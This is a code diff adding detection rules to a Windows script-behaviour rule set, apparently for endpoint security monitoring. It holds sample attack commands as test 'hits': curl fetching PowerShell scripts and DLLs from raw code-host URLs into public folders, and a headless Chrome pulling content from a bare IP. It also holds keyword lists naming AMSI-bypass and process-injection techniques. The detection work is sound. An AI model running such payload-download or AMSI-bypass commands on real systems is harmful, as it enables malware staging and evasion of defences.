@@ -197,6 +197,55 @@ export const WINDOWS_SCRIPTS: readonly Row[] = [
       },
     ),
   }),
+  behaviour('fetch-program-code-host', ['fetch', 'T1105', 'command-and-control', 'medium', 'medium'], {
+    reason:
+      'A script or library for Windows is fetched from the files of a public code host, not from a release of a project.',
+    benign: ['set-up scripts of developers'],
+    hits: [
+      'curl -O https://raw.githubusercontent.com/someone/tools/main/x.ps1',
+      'curl -k https://github.com/a/b/raw/main/x.dll -o c:\\users\\public\\x.dll',
+    ],
+    misses: [
+      'curl -LO https://github.com/a/b/releases/download/v1/x.exe',
+      'curl -O https://raw.githubusercontent.com/a/b/main/README.md',
+    ],
+    look: onProcess(
+      [
+        'curl',
+        'wget',
+        'invoke-webrequest',
+        'invoke-restmethod',
+        '.downloadfile',
+        '.downloadstring',
+        'start-bitstransfer',
+        'bitsadmin',
+        'certutil',
+      ],
+      (process) => {
+        const url = urlOf(process);
+        const text = url === undefined ? '' : urlText(url);
+        return hostClass(text) === 'code-host' &&
+          !text.includes('/releases/') &&
+          /\.(?:ps1|psm1|dll|exe|bat|hta|vbs|sct|jse?|lnk|iso|xsl)(?:$|[?'")])/.test(text)
+          ? url
+          : undefined;
+      },
+    ),
+  }),
+  behaviour('headless-browser-fetch', ['fetch', 'T1105', 'command-and-control', 'high', 'medium'], {
+    reason: 'A browser without a window fetches a page from a bare address, which passes as the traffic of a user.',
+    benign: ['tests of a web site by name'],
+    hits: ['chrome.exe --headless --disable-gpu --dump-dom http://203.0.113.9/a.txt'],
+    misses: ['chrome --headless --screenshot https://www.example.com', 'chrome http://203.0.113.9/'],
+    look: onProcess(['chrome', 'msedge', 'chromium', 'brave', 'google-chrome'], ({ args }) =>
+      args.some(({ lower }) => lower.startsWith('--headless'))
+        ? args.find(
+            ({ lower }) =>
+              /^(?:ip|private|integer-ip|paste|file-share|tunnel)$/.test(hostClass(lower)) && /^https?:/.test(lower),
+          )
+        : undefined,
+    ),
+  }),
   behaviour('fetch-odd-port', ['fetch-port', 'T1571', 'command-and-control', 'medium', 'medium'], {
     reason: 'Something is fetched over plain HTTP from a bare address at an unusual port.',
     benign: ['development servers'],
@@ -228,6 +277,9 @@ export const WINDOWS_SCRIPTS: readonly Row[] = [
     misses: ['powershell "Get-MpComputerStatus"'],
     look: onText([
       'amsiutils',
+      'amsi.dll',
+      '__pslockdownpolicy',
+      "nonpublic,static')",
       'amsiinitfailed',
       'amsiscanbuffer',
       'amsiscanstring',
@@ -285,6 +337,7 @@ export const WINDOWS_SCRIPTS: readonly Row[] = [
       'virtualprotect',
       'createremotethread',
       'getdelegateforfunctionpointer',
+      'marshal]::copy(',
       'writeprocessmemory',
       'queueuserapc',
       'ntunmapviewofsection',
